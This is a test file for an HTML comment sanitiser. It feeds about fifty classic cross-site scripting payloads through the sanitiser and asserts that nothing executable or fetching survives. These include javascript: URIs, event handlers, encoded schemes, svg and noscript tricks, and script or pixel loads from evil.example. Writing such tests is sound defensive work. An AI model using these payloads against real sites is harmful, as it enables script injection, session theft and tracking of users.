import { sampleRichText, toHtml } from "@gatehouse/domain/rich-text";
import { describe, expect, test } from "vitest";
import { seededRandom } from "../platform/seeded-random.ts";
import { sanitiseComment, wordsOf } from "./sanitise.ts";

// CMT-4
test("what the editor writes is let through as it is", () => {
  const { next: random } = seededRandom("comments");
  for (let round = 0; round < 2000; round += 1) {
    const html = toHtml(sampleRichText(random));
    expect(sanitiseComment(html)).toBe(html);
  }
});

// CMT-4: after the well-known ways around filters.
describe("what is hostile leaves nothing that runs or fetches", () => {
  test.each([
    `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
    `<IMG SRC="javascript:alert('XSS');">`,
    `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
    `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
    `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
    `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
    `<IMG SRC=# onmouseover="alert('xxs')">`,
    `<IMG onmouseover="alert('xxs')">`,
    `<IMG SRC=/ onerror="alert(1)"></img>`,
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
    `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
    `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
    `<a href=" &#14;  javascript:alert('XSS');">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="//evil.example">x</a>`,
    `<a href="https://a.example" onclick="alert(1)">x</a>`,
    `<a href="https://a.example" style="position:fixed;inset:0">x</a>`,
    `<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>`,
    `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^=alert("XSS")>`,
    `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
    `<SCRIPT SRC=https://evil.example/x.js?< B >`,
    `<iframe src=https://evil.example/x.html <`,
    `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
    `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
    `<BODY BACKGROUND="javascript:alert('XSS')">`,
    `<IMG DYNSRC="javascript:alert('XSS')">`,
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    `<svg/onload=alert('XSS')>`,
    `<svg><script>alert(1)</script></svg>`,
    `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
    `<LINK REL="stylesheet" HREF="https://evil.example/xss.css">`,
    `<STYLE>@import'https://evil.example/xss.css';</STYLE>`,
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
    `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
    `<TABLE BACKGROUND="javascript:alert('XSS')"><TD>x</TD></TABLE>`,
    `<DIV STYLE="background-image: url(https://evil.example/x.gif)">x</DIV>`,
    `<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>`,
    `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">`,
    `<img src="https://evil.example/pixel.gif" alt="x">`,
    `<img srcset="https://evil.example/pixel.gif 1x" src="/api/cases/pictures/00000000-0000-4000-8000-000000000000">`,
    `<video poster="https://evil.example/p.jpg"><source src="https://evil.example/v.mp4"></video>`,
    `<form action="https://evil.example"><button formaction="javascript:x">x</button></form>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
    `<p data-mention="x" data-color="red;background:url(x)" data-align="left">x</p>`,
    `<span data-color="url(https://evil.example)">x</span>`,
    `<pre data-language="x onload=alert(1)">x</pre>`,
    `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
    `<BASE HREF="javascript:alert('XSS');//">`,
  ])("%s", (hostile) => {
    const html = sanitiseComment(hostile);
    const tags = [...html.matchAll(/<[a-z][^>]*>/gi)].map(([tag]) => tag).join("");
    expect(tags).not.toMatch(/\son\w+=|style=|srcset=|javascript:|vbscript:|data:|evil\.example/i);
    expect(tags).not.toMatch(/<(?:script|iframe|svg|math|object|embed|style|link|meta|base|form|video|input)/i);
    // Once more changes nothing.
    expect(sanitiseComment(html)).toBe(html);
  });
});

test("words of a comment are those that people read, a line each block", () => {
  expect(wordsOf("<h1>Plan</h1><p>A &amp; B &lt;c&gt;<br />next</p><ul><li>one</li><li>two</li></ul>")).toBe(
    "Plan\nA & B <c>\nnext\none\ntwo",
  );
});
